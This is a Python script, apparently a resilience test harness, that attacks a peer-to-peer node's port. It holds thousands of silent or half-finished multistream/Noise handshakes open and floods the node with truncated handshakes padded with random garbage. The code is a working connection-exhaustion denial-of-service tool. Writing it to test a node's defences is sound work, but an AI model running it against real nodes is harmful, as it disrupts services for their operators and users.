"""An attacker on a node's port for peers: sockets that say nothing or half of a handshake, and handshakes of garbage.

A program of its own, standard library only. From each of its addresses it keeps as many sockets open as it can, opens
those anew that the node closes, and sends garbage at a pace. Prints what it did as JSON when its time is over.

    python edge_attacker.py --to 10.77.0.1:47470 --from 10.77.0.101 --sockets 5000 --garbage 500 --seconds 20
"""

import argparse
import asyncio
import json
import random
import sys
import time
from collections import Counter
from contextlib import suppress

HELLO = b"\x13/multistream/1.0.0\n"
NOISE = b"\x07/noise\n"
# Ways to begin, the costliest last: the node computes its answer to a well-formed first message of Noise.
GARBAGE = (b"", HELLO, HELLO + NOISE, HELLO + NOISE + b"\x00\x20")
SILENT = (b"", HELLO, HELLO + NOISE)
OPENED_PER_S = 500.0  # of the sockets that are kept: those the node closes come again
PATIENCE = 3.0  # s for a connection, and for what the node says to garbage


class Attack:
    """What it does, and counts."""

    def __init__(self, host: str, port: int, sources: list[str], seed: int) -> None:
        self._to = host, port
        self._sources = sources
        self._luck = random.Random(seed)  # noqa: S311 -- the same attack every time
        self.counts: Counter[str] = Counter()
        self.open = 0
        self.most = 0

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        source = (self._luck.choice(self._sources), 0)
        async with asyncio.timeout(PATIENCE):
            return await asyncio.open_connection(*self._to, local_addr=source)

    async def hold(self) -> None:
        """Open a socket, say a little or nothing, and keep it for as long as the node bears it."""
        writer = None
        self.open += 1  # counted from here, so that no more are opened than are wanted
        try:
            reader, writer = await self._connect()
            self.counts["held"] += 1
            self.most = max(self.most, self.open)
            writer.write(self._luck.choice(SILENT))
            while await reader.read(4096):
                pass
            self.counts["closed by the node"] += 1
        except (OSError, TimeoutError):
            self.counts["not held"] += 1
        finally:
            self.open -= 1
            if writer is not None:
                writer.close()

    async def send_garbage(self) -> None:
        """Begin a handshake in one of the ways, end it with garbage, and hang up."""
        writer = None
        try:
            reader, writer = await self._connect()
            writer.write(self._luck.choice(GARBAGE) + self._luck.randbytes(self._luck.randrange(32, 600)))
            async with asyncio.timeout(PATIENCE):
                while await reader.read(4096):
                    pass
            self.counts["garbage"] += 1
        except (OSError, TimeoutError):
            self.counts["garbage, refused"] += 1
        finally:
            if writer is not None:
                writer.close()

    async def run(self, *, sockets: int, garbage: float, seconds: float) -> None:
        """Attack until the time is over."""
        until = time.monotonic() + seconds
        tasks: set[asyncio.Task[None]] = set()

        def begin(work: asyncio.Task[None]) -> None:
            tasks.add(work)
            work.add_done_callback(tasks.discard)

        async def keep() -> None:
            due = time.monotonic()
            while time.monotonic() < until:
                if self.open < sockets:
                    begin(asyncio.create_task(self.hold()))
                due = max(due + 1 / OPENED_PER_S, time.monotonic() - 0.1)
                await asyncio.sleep(max(0.0, due - time.monotonic()))

        async def flood() -> None:
            due = time.monotonic()
            while garbage and time.monotonic() < until:
                begin(asyncio.create_task(self.send_garbage()))
                due = max(due + 1 / garbage, time.monotonic() - 0.1)
                await asyncio.sleep(max(0.0, due - time.monotonic()))

        await asyncio.gather(keep(), flood())
        for each in list(tasks):
            each.cancel()
        with suppress(asyncio.CancelledError):
            await asyncio.gather(*list(tasks), return_exceptions=True)


def main() -> None:
    """Run the command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--to", required=True)
    parser.add_argument("--from", dest="sources", nargs="+", required=True)
    parser.add_argument("--sockets", type=int, required=True)
    parser.add_argument("--garbage", type=float, required=True, help="handshakes a second")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    host, _, port = options.to.rpartition(":")
    attack = Attack(host, int(port), options.sources, seed=1)
    asyncio.run(attack.run(sockets=options.sockets, garbage=options.garbage, seconds=options.seconds))
    sys.stdout.write(json.dumps({**attack.counts, "most held at once": attack.most}) + "\n")


if __name__ == "__main__":
    main()
